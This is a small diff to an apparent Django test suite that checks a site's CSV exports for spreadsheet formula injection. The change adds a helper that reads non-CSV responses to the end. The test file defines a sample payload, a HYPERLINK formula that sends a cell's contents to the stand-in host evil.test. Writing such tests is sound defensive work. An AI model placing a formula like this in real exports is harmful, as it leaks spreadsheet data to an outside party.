@@ -17,6 +17,7 @@ from django.urls import reverse
 from django.utils import timezone
 
 from tests.organisation.test_cross_prefecture import _collect_cases
+from tests.tooling import read_to_end
 
 EVIL = '=HYPERLINK("http://evil.test/?"&A1)'
 FORMULA_CELLS = ("=", "+", "-", "@")
@@ -86,6 +87,7 @@ def test_no_csv_export_carries_a_formula(prefecture, site, service, quality_lead
         url = reverse(name, kwargs={"prefecture": prefecture.slug, **kwargs})
         response = client.get(url)
         if not response.get("Content-Type", "").startswith("text/csv"):
+            read_to_end(response)
             assert not name.endswith("csv"), f"{name} does not answer text/csv"
             continue
         exports.add(name)
